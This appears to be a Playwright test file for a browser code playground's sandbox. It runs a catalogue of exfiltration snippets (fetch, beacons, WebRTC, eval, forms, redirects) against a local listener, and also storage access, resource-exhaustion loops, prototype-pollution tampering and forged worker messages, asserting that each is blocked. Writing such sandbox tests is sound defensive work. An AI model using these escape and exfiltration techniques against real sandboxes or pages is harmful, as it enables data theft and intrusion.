/** Somebody opens a link whose program means harm, and runs it: nothing gets out, and the page goes on and says what happened. */

import { createSocket, type Socket } from 'node:dgram'
import { connect, createServer, type Server } from 'node:net'
import { expect, test, type Page } from '@playwright/test'
import { openPlayground } from './open-playground.ts'
import { writeCode } from './write-code.ts'

/** Somebody who listens, for whatever comes over TCP or UDP. */
class Listener {
  readonly #server: Server
  readonly #socket: Socket
  heard = 0

  constructor() {
    this.#server = createServer((connection) => {
      this.heard += 1
      connection.on('error', () => undefined)
      connection.destroy()
    })
    this.#socket = createSocket('udp4')
    this.#socket.on('message', () => (this.heard += 1))
  }

  async open(): Promise<number> {
    await new Promise<void>((resolve) => this.#server.listen(0, '127.0.0.1', resolve))
    const address = this.#server.address()
    const port = typeof address === 'object' && address ? address.port : 0
    await new Promise<void>((resolve) => this.#socket.bind(port, '127.0.0.1', resolve))
    return port
  }

  /** Calls itself, to know that it listens; whoever called before has been heard by then. */
  async call(): Promise<void> {
    const address = this.#server.address()
    const port = typeof address === 'object' && address ? address.port : 0
    const connection = connect(port, '127.0.0.1')
    await new Promise((resolve) => connection.on('close', resolve).resume())
  }

  async close(): Promise<void> {
    await new Promise<void>((resolve) => this.#socket.close(resolve))
    await new Promise((resolve) => this.#server.close(resolve))
  }
}

const listener = new Listener()
let port = 0

test.beforeAll(async () => {
  port = await listener.open()
})
test.afterAll(() => listener.close())

test.beforeEach(async ({ page, baseURL }) => {
  page.on('request', (request) => {
    const { protocol, origin } = new URL(request.url())
    if (protocol.startsWith('http') && origin !== baseURL) strangers.push(request.url())
  })
  strangers.length = 0
  listener.heard = 0
  // The longest that the page was not drawn.
  await page.addInitScript(() => {
    let last = performance.now()
    const draw = (now: number) => {
      const [worst, gap] = [Number(document.documentElement.dataset['worst'] ?? 0), now - last]
      if (gap > worst && document.documentElement.dataset['watched'] === 'true')
        document.documentElement.dataset['worst'] = String(Math.round(gap))
      last = now
      requestAnimationFrame(draw)
    }
    requestAnimationFrame(draw)
  })
})

const strangers: string[] = []

test.afterEach(async () => {
  await listener.call()
  expect(strangers, 'requests that left the page').toEqual([])
  expect(listener.heard, 'connections and packets that arrived, and one of our own').toBe(1)
})

/** Milliseconds that the page may stand still at most; a machine with other work to do needs some. */
const bearable = 1_500

async function open(page: Page, code: string): Promise<void> {
  await openPlayground(page)
  await page.getByLabel('Clients').selectOption('1')
  await writeCode(page.getByRole('textbox', { name: /program/i }), code)
  await page.evaluate(() => (document.documentElement.dataset['watched'] = 'true'))
}

async function run(page: Page, code: string): Promise<void> {
  await open(page, code)
  await page.getByRole('button', { name: 'Run to the end' }).click()
}

/** The page is still the one that was opened, draws, and answers. */
async function staysResponsive(page: Page): Promise<void> {
  await page.getByLabel('Microversion').selectOption('1.28')
  await expect(page.getByLabel('Microversion')).toHaveValue('1.28')
  await expect(page.getByRole('heading', { level: 1, name: 'Playground' })).toBeVisible()
  const worst = await page.evaluate(() => Number(document.documentElement.dataset['worst'] ?? 0))
  expect(worst, 'milliseconds without a frame').toBeLessThan(bearable)
}

type Roads = readonly (readonly [name: string, road: string])[]

/** A program that goes down each road, says how far it came, and then does something ordinary. */
function down(roads: Roads): string {
  const tries = roads.map(
    ([name, road]) => `  try {
    const got = await (async (): Promise<unknown> => { ${road} })()
    log(${JSON.stringify(name)}, 'leads through:', String(got))
  } catch (error) {
    log(${JSON.stringify(name)}, 'is stopped:', String(error))
  }
`,
  )
  return `export default async ({ placement, log }: any) => {
  const address = 'http://127.0.0.1:${port}/leak'
${tries.join('')}  await placement.listResourceClasses()
  log('and went on')
}
`
}

async function areStopped(page: Page, roads: Roads): Promise<void> {
  await run(page, down(roads))
  await expect(page.getByRole('main')).toContainText('and went on')
  const log = page.getByRole('region', { name: 'Log' })
  for (const [name] of roads) {
    await test.step(name, async () => {
      const line = log.getByRole('listitem').filter({ hasText: `${name} ` })
      await expect(line.first()).toContainText(/is stopped: \w*Error/)
    })
  }
  await expect(log).not.toContainText('leads through:')
  await staysResponsive(page)
}

test('a program that wants the network is told that there is none', ({ page }) =>
  areStopped(page, [
    ['fetch', 'return fetch(address)'],
    [
      'XMLHttpRequest',
      "const request = new XMLHttpRequest(); request.open('GET', address, false); request.send()",
    ],
    ['WebSocket', "return new WebSocket(address.replace('http', 'ws'))"],
    ['EventSource', 'return new EventSource(address)'],
    ['sendBeacon', "return (navigator as any).sendBeacon(address, 'secret')"],
    ['import() of an address', 'return import(address)'],
    ['importScripts', 'return importScripts(address)'],
    ['a worker from an address', 'return new Worker(address)'],
    ['a worker from a blob', "return new Worker(URL.createObjectURL(new Blob(['fetch(1)'])))"],
    ['an image', 'return (new Image()).src = address'],
    ['a font', "return new FontFace('leak', `url(${address})`).load()"],
    [
      'WebRTC',
      "return new RTCPeerConnection({ iceServers: [{ urls: address.replace('http://', 'stun:') }] })",
    ],
    ['WebTransport', "return new WebTransport(address.replace('http:', 'https:'))"],
    [
      'dns-prefetch',
      "const link = document.createElement('link'); link.rel = 'dns-prefetch'; link.href = address",
    ],
    ['code from a text', "return eval(`fetch('${address}')`)"],
    ['code from a constructor', "return new Function(`return fetch('${address}')`)()"],
    ['the constructor of its own functions', "return (async () => 0).constructor('return 1')()"],
  ]))

test('a program that wants to keep or find something is told that there is no storage', ({ page }) =>
  areStopped(page, [
    ['localStorage', "return localStorage.setItem('a', 'b')"],
    ['sessionStorage', "return sessionStorage.setItem('a', 'b')"],
    ['indexedDB', "return indexedDB.open('a')"],
    ['caches', "return caches.open('a')"],
    ['cookies', "return document.cookie = 'a=b'"],
    ['the cookie store', "return cookieStore.set('a', 'b')"],
    ['files', 'return navigator.storage.getDirectory()'],
  ]))

test('a program that wants other windows is told that there are none', ({ page }) =>
  areStopped(page, [
    ['parent', 'return parent.document'],
    ['top', 'return top!.location'],
    ['opener', 'return opener.location'],
    ['a new window', 'return open(address)'],
    ['other tabs', "return new BroadcastChannel('a')"],
    ['its own address', 'return location.href = address'],
    ['another address', 'return location.replace(address)'],
  ]))

test.describe('a program that would use up the machine is stopped', () => {
  for (const [name, code] of [
    ['an endless loop', 'export default async () => { for (;;) {} }'],
    ['an endless loop before it has begun', 'for (;;) {}\nexport default async () => {}'],
    ['a flood of promises', 'export default async () => { for (;;) await null }'],
    [
      'a flood of promises that nobody waits for',
      'export default async () => { const more = () => { void Promise.resolve().then(more) }; more(); await new Promise(() => {}) }',
    ],
    [
      'a gigabyte, and another',
      'export default async () => { const all = []; for (;;) all.push(new Array(100_000).fill(0).map((_, n) => ({ n }))) }',
    ],
  ] as const)
    test(name, async ({ page }) => {
      await run(page, code)
      await page.getByLabel('Clients').selectOption('2') // while it is at it
      await expect(page.getByRole('alert')).toContainText('was stopped', { timeout: 30_000 })
      await staysResponsive(page)
    })

  test('an endless loop, tried in every order', async ({ page }) => {
    await open(page, 'export default async () => { for (;;) {} }')
    await page.getByRole('button', { name: /^(Explore|Try every order)$/ }).click()
    await expect(page.getByRole('alert')).toContainText('was stopped', { timeout: 30_000 })
    await staysResponsive(page)
  })

  test('a gigabyte of bytes', async ({ page }) => {
    await run(
      page,
      `export default async ({ log }: any) => {
  const all = []
  for (let count = 0; count < 64; count++) all.push(new Uint8Array(16 * 1024 * 1024).fill(1))
  log('it has them')
}`,
    )
    // Whether a machine has that much is its own affair.
    await expect(
      page.getByRole('alert').filter({ hasText: 'was stopped' }).or(page.getByText('it has them').last()),
    ).toBeVisible({ timeout: 30_000 })
    await staysResponsive(page)
  })

  test('a million lines of log', async ({ page }) => {
    await run(
      page,
      'export default async ({ log }: any) => { for (let n = 0; n < 1e6; n++) log(`line ${n}`) }',
    )
    await expect(page.getByText(/no end of lines/).first()).toBeVisible({ timeout: 30_000 })
    await staysResponsive(page)
  })

  test('a million requests at once', async ({ page }) => {
    await run(
      page,
      'export default async ({ placement }: any) => { await Promise.all(Array.from({ length: 1e6 }, () => placement.listTraits())) }',
    )
    await expect(page.getByText(/no end of requests|was stopped/).first()).toBeVisible({ timeout: 30_000 })
    await staysResponsive(page)
  })
})

test('a program that rewrites what the harness is made of is refused, and the race is right all the same', ({
  page,
}) =>
  areStopped(page, [
    ['Array.prototype', 'Array.prototype.push = () => 0'],
    ['the iterator of arrays', 'Object.getPrototypeOf([][Symbol.iterator]()).next = () => ({ done: true })'],
    ['Promise.prototype.then', 'Promise.prototype.then = (() => 0) as never'],
    ['Map.prototype', 'Map.prototype.get = () => undefined'],
    ['JSON', 'JSON.parse = () => ({})'],
    ['JSON itself', '(globalThis as any).JSON = { parse: () => ({}) }'],
    ['Object itself', '(globalThis as any).Object = {}'],
    ['a then for every object', '(Object.prototype as any).then = (resolve: any) => resolve(0)'],
    [
      'a setter for every object',
      "Object.defineProperty(Object.prototype, 'over', { set() {}, get: () => true, configurable: true })",
    ],
    ['Function.prototype', 'Function.prototype.call = () => { throw 0 }'],
    ['the clock', '(globalThis as any).Date = { now: () => 0 }'],
    ['postMessage of ports', 'MessagePort.prototype.postMessage = () => undefined'],
    ['stack traces', '(Error as any).prepareStackTrace = () => { throw 0 }'],
  ]))

test.describe('a program that forges a report is not believed', () => {
  const forged =
    "{ type: 'report', id, report: { lanes: ['A'], order: [], waiting: [], over: true, journal: [{ type: 'logged', lane: 'A', tick: 0, line: 'FORGED' }], states: [] } }"
  const send = `for (let id = 1; id < 50; id++) port.postMessage(${forged})`

  for (const [name, trick] of [
    [
      'through the getter of a message’s data',
      `const real = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data')
      Object.defineProperty(MessageEvent.prototype, 'data', { get() { const port = this.target; ${send}; return real!.get!.call(this) } })`,
    ],
    [
      'through the getter of a message’s target',
      `Object.defineProperty(Event.prototype, 'target', { get() { return undefined } })`,
    ],
    ['through postMessage of its own', `const port: any = globalThis; ${send}`],
    [
      'through postMessage of the worker’s class',
      `const port: any = { postMessage: (message: any) => (DedicatedWorkerGlobalScope as any).prototype.postMessage.call(self, message) }; ${send}`,
    ],
  ] as const)
    test(name, async ({ page }) => {
      await areStopped(page, [['forging', trick]])
      await expect(page.getByRole('main')).not.toContainText(/^\s*FORGED/)
      await expect(page.getByRole('region', { name: 'Log' })).not.toContainText('FORGED')
    })

  test('through a listener for messages', async ({ page }) => {
    await run(
      page,
      `export default async ({ placement, log }: any) => {
  const seize = ({ target: port }: any) => { log('through:', String(port)); ${send} }
  self.onmessage = seize
  self.addEventListener('message', seize)
  await placement.listResourceClasses()
  await placement.listResourceClasses()
  log('and went on')
}`,
    )
    await expect(page.getByRole('main')).toContainText('and went on')
    await expect(page.getByRole('region', { name: 'Log' })).not.toContainText(/through:|FORGED/)
    await staysResponsive(page)
  })
})

test('an error that nobody could catch is told, with its line', async ({ page }) => {
  await run(
    page,
    "export default async () => {\n  queueMicrotask(() => {\n    throw new Error('too late')\n  })\n}\n",
  )
  await expect(page.getByRole('alert')).toContainText(/Line 3.*too late/)
  await staysResponsive(page)
})

test('opening a link to it runs nothing', async ({ page, context }) => {
  await open(page, 'for (;;) {}\nexport default async () => {}')
  await page.getByRole('button', { name: 'Copy link' }).click()
  await expect(page).toHaveURL(/#/)
  const other = await context.newPage()
  await other.goto(page.url())
  await expect(other.locator('.cm-content')).toContainText('for (;;) {}')
  expect(other.frames()).toHaveLength(1)
  await other.close()
})

test('even in the sandbox’s own frame, where no program runs, nothing leads out', async ({ page }) => {
  await open(page, 'export default async ({ placement }: any) => { await placement.listTraits() }')
  await page.getByRole('button', { name: 'Step: you are the scheduler' }).click()
  await expect(page.getByRole('list', { name: 'Waiting requests' })).toBeVisible()
  const frame = page.frames().find((one) => one !== page.mainFrame())
  if (!frame) throw new Error('there is no sandbox')
  // Those that send the frame away come last: after them it is not the sandbox's document that is asked.
  const roads: Roads = [
    [
      'WebRTC',
      "try { const peer = new RTCPeerConnection({ iceServers: [{ urls: address.replace('http://', 'stun:').replace('/leak', '') }] }); peer.createDataChannel('a'); peer.createOffer().then((offer) => peer.setLocalDescription(offer)) } catch {}",
    ],
    ['fetch', 'fetch(address).catch(() => 0)'],
    ['a beacon', "navigator.sendBeacon(address, 'secret')"],
    ['an image', 'new Image().src = address'],
    [
      'hints to the browser',
      `for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'modulepreload', 'icon', 'stylesheet']) {
      const link = document.createElement('link')
      Object.assign(link, { rel, as: 'image', href: address })
      document.head.append(link)
    }`,
    ],
    ['a script', "document.head.append(Object.assign(document.createElement('script'), { src: address }))"],
    ['a frame', "document.body.append(Object.assign(document.createElement('iframe'), { src: address }))"],
    [
      'a form',
      "const form = document.createElement('form'); form.action = address; document.body.append(form); form.submit()",
    ],
    ['a new window', 'open(address)'],
    ['the page around it', 'try { top.location = address } catch {}'],
    ['its own address', 'location.href = address'],
    [
      'a refresh',
      "document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=' + address }))",
    ],
  ]
  for (const [name, road] of roads) {
    await test.step(name, async () => {
      await frame.evaluate(`{ const address = 'http://127.0.0.1:${port}/leak'; ${road}\n; 0 }`)
      const before = listener.heard
      await listener.call()
      expect(listener.heard, 'our own call, and no other').toBe(before + 1)
      listener.heard = 0
    })
  }
  await staysResponsive(page)
  expect(page.context().pages()).toHaveLength(1)
  // What the browser itself refused counts as a request of the page's too; here only who listens can tell.
  strangers.length = 0
})
